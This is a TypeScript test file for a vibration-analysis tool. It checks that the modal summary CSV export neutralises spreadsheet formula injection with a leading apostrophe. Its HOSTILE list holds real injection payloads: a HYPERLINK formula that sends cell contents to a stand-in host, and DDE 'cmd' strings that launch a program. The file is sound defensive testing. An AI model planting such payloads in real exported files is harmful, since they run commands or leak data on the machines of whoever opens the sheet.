/**
 * The modal summary table (CSV) opened in a spreadsheet must not run anything: a text cell that
 * begins with =, +, -, @, tab or carriage return is read as a formula, so it gets a leading
 * apostrophe (OWASP, "CSV Injection", owasp.org/www-community/attacks/CSV_Injection: "ensure
 * that no cells begin with" those characters; "prepend each cell field with a single quote").
 * Numbers stay numbers: a negative separation is written -12.3, which a spreadsheet reads as the
 * number it is, not as text. The same writer serves `solve --csv` and the app's export.
 */
import { describe, expect, test } from 'vitest'
import { analyseProject } from '../../core/analysis/modal-analysis'
import { modalSummaryCsv, MODAL_SUMMARY_COLUMNS } from '../../core/analysis/modal-summary'
import { makeProject } from '../helpers'
import { projectText, run } from './cli-harness'

/** RFC 4180 fields of one CSV document (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (ch === '"') quoted = false
      else field += ch
    } else if (ch === '"' && field === '') quoted = true
    else if (ch === ',') {
      row.push(field)
      field = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      i++
    } else field += ch
  }
  if (field !== '' || row.length) rows.push([...row, field])
  return rows
}

// Each label would run as a formula if written as it is. (Rodwave trims a label's surrounding
// white space, and the file format refuses control characters such as tab and carriage return in
// a label, core/model/project-schema.ts, so those never reach the writer; a label led by spaces
// stands in for them.)
const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0', '  =1+2', ' =1+3']

/** A fixed–free bar 1 m long (f1 = c/4L ≈ 1262 Hz, Rao, Mechanical Vibrations) with one hostile-named excitation per mode's neighbourhood. */
function hostileDocument() {
  return {
    materials: [{ id: 'steel', youngsModulus: 200e9, density: 7850 }],
    segments: [{ length: 1, material: 'steel', section: { shape: 'solid', diameter: 0.02 } }],
    analysis: { modes: 6, elementsPerSegment: 60 },
    // Above each of the first six modes (f_n ≈ (2n − 1)·1262 Hz), so every separation is negative.
    excitations: HOSTILE.map((label, i) => ({ label, hz: (2 * i + 1) * 1262 * 1.05 })),
  }
}

describe('CSV formula injection', () => {
  test('the writer neutralises every hostile label with a leading apostrophe, and leaves negative numbers numeric', () => {
    const analysis = analyseProject(makeProject(hostileDocument()))
    const rows = parseCsv(modalSummaryCsv(analysis))
    expect(rows[0]).toEqual([...MODAL_SUMMARY_COLUMNS])
    const label = MODAL_SUMMARY_COLUMNS.indexOf('closest_excitation')
    const separation = MODAL_SUMMARY_COLUMNS.indexOf('separation_percent')
    const seen = new Set<string>()
    for (const row of rows.slice(1)) {
      expect(row.length).toBe(MODAL_SUMMARY_COLUMNS.length)
      for (const [i, cell] of row.entries()) {
        const isNumber = cell !== '' && Number.isFinite(Number(cell))
        // Only a number may begin with "-" or "+"; no cell at all begins with =, @, tab or CR.
        if (!isNumber) expect(cell, `column ${MODAL_SUMMARY_COLUMNS[i]}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/)
        expect(cell).not.toMatch(/^[=@\t\r]/)
      }
      expect(row[label].startsWith("'")).toBe(true)
      seen.add(row[label].slice(1))
      // Every mode sits 5 % below its excitation: the separation is a negative number, written as one.
      expect(row[separation]).toMatch(/^-\d/)
      expect(Number(row[separation])).toBeLessThan(0)
    }
    // The labels come back whole after the apostrophe: nothing of the user's text is lost.
    expect([...seen].sort()).toEqual(HOSTILE.map((l) => l.trim()).sort())
  })

  test('labels that begin harmlessly are written as they are', () => {
    const doc = { ...hostileDocument(), excitations: [{ label: 'Pump 1×', hz: 1000 }, { label: 'a=b', hz: 5000 }] }
    const rows = parseCsv(modalSummaryCsv(analyseProject(makeProject(doc))))
    const labels = rows.slice(1).map((r) => r[MODAL_SUMMARY_COLUMNS.indexOf('closest_excitation')])
    expect(new Set(labels)).toEqual(new Set(['Pump 1×', 'a=b']))
  })

  test('solve --csv on the command line writes the same neutralised table', async () => {
    const file = projectText(hostileDocument())
    const r = await run(['solve', 'hostile.json', '--csv'], { 'hostile.json': file })
    expect(r.code).toBe(0)
    const rows = parseCsv(r.stdout)
    for (const row of rows.slice(1)) expect(row[MODAL_SUMMARY_COLUMNS.indexOf('closest_excitation')]).toMatch(/^'[=+\-@]/)
  })
})
